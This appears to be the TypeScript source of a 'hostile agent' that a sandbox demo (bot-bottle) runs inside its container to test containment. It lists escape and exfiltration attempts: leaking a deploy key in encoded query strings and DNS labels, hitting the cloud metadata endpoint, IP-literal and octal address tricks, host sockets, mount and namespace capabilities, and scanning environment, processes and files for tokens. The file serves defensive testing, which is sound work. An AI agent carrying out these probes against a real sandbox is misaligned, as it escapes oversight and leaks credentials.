// The hostile agent of `bot-bottle demo`: a bundle of its own, run by node inside the bottle. It says what it saw, one
// JSON line an attempt; whether that is an escape is judged outside.

import { gzipSync } from "node:zlib";
import { ask, exchange, get, reachUnix, udp } from "./agent-network.ts";
import { capability, readForeign, searchEnvironment, searchFiles, searchProcesses } from "./agent-system.ts";
import type { Mission, Outcome } from "./outcome.ts";

const mission = JSON.parse(process.argv[2] ?? "{}") as Mission;
const { allowed, other, tokenPrefix } = mission;

/** Addresses nobody owns (RFC 5737), and one that every cloud machine has. */
const ADDRESS = "203.0.113.9";
const OCTAL = "0313.0000.0161.0011";
const METADATA = "169.254.169.254";
const OUTSIDE_RESOLVER = "8.8.8.8";

/** A secret that it was given, and may not give away. */
const key = Buffer.from(process.env.DEPLOY_KEY ?? "");

/** In the order of the table. */
const attempts: Readonly<Record<string, () => Promise<Outcome> | Outcome>> = {
  allowed: () => get({ host: allowed, path: "/v1/whoami?attempt=allowed" }),
  "other-host": () => get({ host: other, path: "/?attempt=other-host" }),
  "ip-literal": () => get({ host: ADDRESS, path: "/?attempt=ip-literal" }),
  "ip-octal": () => get({ host: OCTAL, dial: ADDRESS, path: "/?attempt=ip-octal" }),
  "host-mismatch": () => get({ host: other, sni: allowed, dial: allowed, path: "/?attempt=host-mismatch" }),
  path: () => get({ host: allowed, path: "/v1/../admin?attempt=path" }),
  method: () => get({ host: allowed, path: "/v1/x?attempt=method", method: "DELETE" }),
  "own-secret": () => get({ host: allowed, path: `/v1/x?attempt=own-secret&q=${key.toString("base64url")}` }),
  "packed-secret": () =>
    get({ host: allowed, path: `/v1/x?attempt=packed-secret&q=${gzipSync(key).toString("hex")}` }),
  connect: () => get({ host: other, proxy: { host: "sidecar", port: 9099 }, path: "/?attempt=connect" }),
  metadata: () =>
    exchange(
      { host: METADATA, port: 80 },
      `GET /latest/meta-data/?attempt=metadata HTTP/1.1\r\nhost: ${METADATA}\r\n\r\n`,
    ),
  "odd-port": () => exchange({ host: allowed, port: 8443 }, "hello\r\n"),
  "dns-outside": () => ask(OUTSIDE_RESOLVER, other, "A"),
  "dns-label": () => ask(OUTSIDE_RESOLVER, `6f75722d736563726574.${other}`, "TXT"),
  quic: () => udp(ADDRESS, 443),
  "host-tcp": () => exchange({ host: "127.0.0.1", port: mission.hostPort }, "hello\r\n"),
  "host-unix": () => reachUnix(`\0${mission.hostSocket}`),
  "raw-socket": () => capability("raw-socket"),
  remount: () => capability("mount"),
  "nested-namespace": () => capability("namespace"),
  env: () => searchEnvironment(tokenPrefix),
  proc: () => searchProcesses(tokenPrefix),
  files: () => searchFiles(tokenPrefix),
  "operator-home": () => readForeign(mission.operatorFile, tokenPrefix),
};

for (const [attempt, tryIt] of Object.entries(attempts)) {
  const outcome = await Promise.resolve()
    .then(tryIt)
    .catch(
      (error: NodeJS.ErrnoException): Outcome => ({ kind: "failed", code: error.code ?? error.message }),
    );
  process.stdout.write(`${JSON.stringify({ attempt, outcome })}\n`);
}
